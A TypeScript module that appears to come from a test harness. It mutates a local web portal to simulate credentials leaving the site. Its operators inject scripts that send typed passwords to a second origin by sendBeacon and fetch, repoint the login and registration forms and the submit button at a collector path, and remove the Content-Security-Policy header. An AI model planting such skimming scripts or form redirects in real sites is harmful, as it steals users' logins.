import type { CheerioAPI } from "cheerio";
import type { DriftContext, Operator } from "../operator.ts";
import { atEnd, inForm, onForm, withId } from "../page.ts";
import { collectPath } from "../types.ts";

/** Another origin of the same portal: this machine by its other name. A browser keeps its cookies apart. */
function elsewhere({ request }: DriftContext): string {
	const { hostname, headers, protocol } = request.req;
	const port = /:\d+$/.exec(headers.host ?? "")?.[0] ?? "";
	return `${protocol}://${hostname === "localhost" ? "127.0.0.1" : "localhost"}${port}`;
}

const collector = (context: DriftContext) => elsewhere(context) + context.parts.prefix + collectPath;

/** Removes the portal's content security policy, which would block requests to another origin. */
const openPolicy = ({ request }: DriftContext) => request.res.removeHeader("Content-Security-Policy");

/** A path that refuses forms from another host, which the journal records. */
const collects: NonNullable<Operator["routes"]> = (routes) => [
	...routes,
	{ path: collectPath, access: "everyone", post: ({ res }) => void res.sendStatus(204) },
];

const loginForm = (page: CheerioAPI) => withId(page, "txtUserName").closest("form");

/** Makes a page of the other origin report typed values, or a form post there. `collectPath` stands for another party. */
export const origins: readonly Operator[] = [
	{
		name: "portal-moved",
		description: "The home page redirects to another host name, with the same pages.",
		class: "behavioural",
		changes: ["home"],
		routes: collects,
		before(step) {
			const { place, method, request, parts, goOn } = step;
			if (place !== "home" || method === "post" || request.req.hostname === "localhost") return goOn();
			request.res.redirect(302, `${elsewhere(step)}${parts.prefix}/`);
		},
		page(page, { request, parts }) {
			if (request.req.hostname !== "localhost") return;
			atEnd(
				page,
				`<script>document.addEventListener("change", ({ target }) => { if (target.type === "password" && target.value) navigator.sendBeacon("${parts.prefix}${collectPath}?typed=password"); });</script>`,
			);
		},
	},
	{
		name: "login-sent-elsewhere",
		description: "The login form is posted to another host.",
		class: "blocking",
		changes: ["home"],
		routes: collects,
		page(page, context) {
			openPolicy(context);
			loginForm(page).attr("action", collector(context));
		},
	},
	{
		name: "form-sent-elsewhere",
		description: "The registration form is posted to another host.",
		class: "blocking",
		changes: ["form"],
		routes: collects,
		page(page, context) {
			openPolicy(context);
			withId(page, "frmApiUser").attr("action", collector(context));
		},
	},
	{
		name: "button-sends-elsewhere",
		description: "The button Submit has its own address, on another host.",
		class: "blocking",
		changes: ["form"],
		routes: collects,
		page(page, context) {
			openPolicy(context);
			withId(page, "btnSubmit").attr("formaction", collector(context));
		},
	},
	{
		name: "password-reported",
		description: "A script on the registration form sends the password to another host as it is typed.",
		class: "behavioural",
		changes: ["form"],
		routes: collects,
		page(page, context) {
			openPolicy(context);
			onForm(
				page,
				`${inForm.password}.addEventListener("input", ({ target: { value } }) => void (value && fetch("${collector(context)}", { method: "POST", mode: "no-cors", body: new URLSearchParams({ typed: value }) })));`,
			);
		},
	},
];
